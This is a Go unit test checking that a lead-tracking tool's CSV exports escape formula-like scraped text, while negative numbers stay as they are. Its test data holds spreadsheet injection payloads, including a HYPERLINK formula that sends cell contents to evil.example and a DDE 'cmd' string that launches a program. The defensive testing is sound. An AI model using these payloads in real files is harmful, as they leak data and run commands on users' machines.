package main

import (
	"bytes"
	"encoding/csv"
	"testing"
	"time"

	"github.com/veille-hq/veille/signals"
	"github.com/veille-hq/veille/watcher"
)

// TestCSVFormulaInjection checks that scraped text starting like a formula
// leaves `leads` and `signals --format csv` as text a spreadsheet does not
// run, while numeric columns keep their sign.
func TestCSVFormulaInjection(t *testing.T) {
	const hyperlink = `=HYPERLINK("https://evil.example/?d="&A1,"Click")`
	hostile := map[string]string{
		hyperlink:            "'" + hyperlink,
		"+33 cmd|' /C calc'": "'+33 cmd|' /C calc'",
		"-2+3":               "'-2+3",
		"@SUM(A1:A2)":        "'@SUM(A1:A2)",
		"\t=1":               "'\t=1",
		"\r=1":               "'\r=1",
		"Breizh Conserves":   "Breizh Conserves",
		"élan = 1":           "élan = 1",
	}
	for in, want := range hostile {
		t.Run(in, func(t *testing.T) {
			var leads, sigs bytes.Buffer
			if err := printLeads(&leads, []signals.Lead{{Company: in, Watchlist: "agro", Score: 42, Trend7d: -12, Tier: signals.Hot}}, "csv"); err != nil {
				t.Fatal(err)
			}
			at := time.Date(2026, 11, 23, 6, 30, 0, 0, time.UTC)
			if err := printSignals(&sigs, []watcher.SignalView{{Signal: signals.Signal{Title: in, Company: "ACME", FirstSeen: at}, Points: -3}}, "csv"); err != nil {
				t.Fatal(err)
			}
			lr := rows(t, leads.Bytes())
			sr := rows(t, sigs.Bytes())
			if got := lr[1][0]; got != want {
				t.Errorf("leads company cell %q, want %q", got, want)
			}
			if got := lr[1][6]; got != "-12" {
				t.Errorf("leads trend_7d cell %q, want -12 (numbers are left as they are)", got)
			}
			if got := sr[1][5]; got != want {
				t.Errorf("signals title cell %q, want %q", got, want)
			}
			if got := sr[1][4]; got != "-3" {
				t.Errorf("signals points cell %q, want -3", got)
			}
		})
	}
}

func rows(t *testing.T, b []byte) [][]string {
	t.Helper()
	r, err := csv.NewReader(bytes.NewReader(b)).ReadAll()
	if err != nil || len(r) != 2 {
		t.Fatalf("csv %q: %d rows, %v", b, len(r), err)
	}
	return r
}
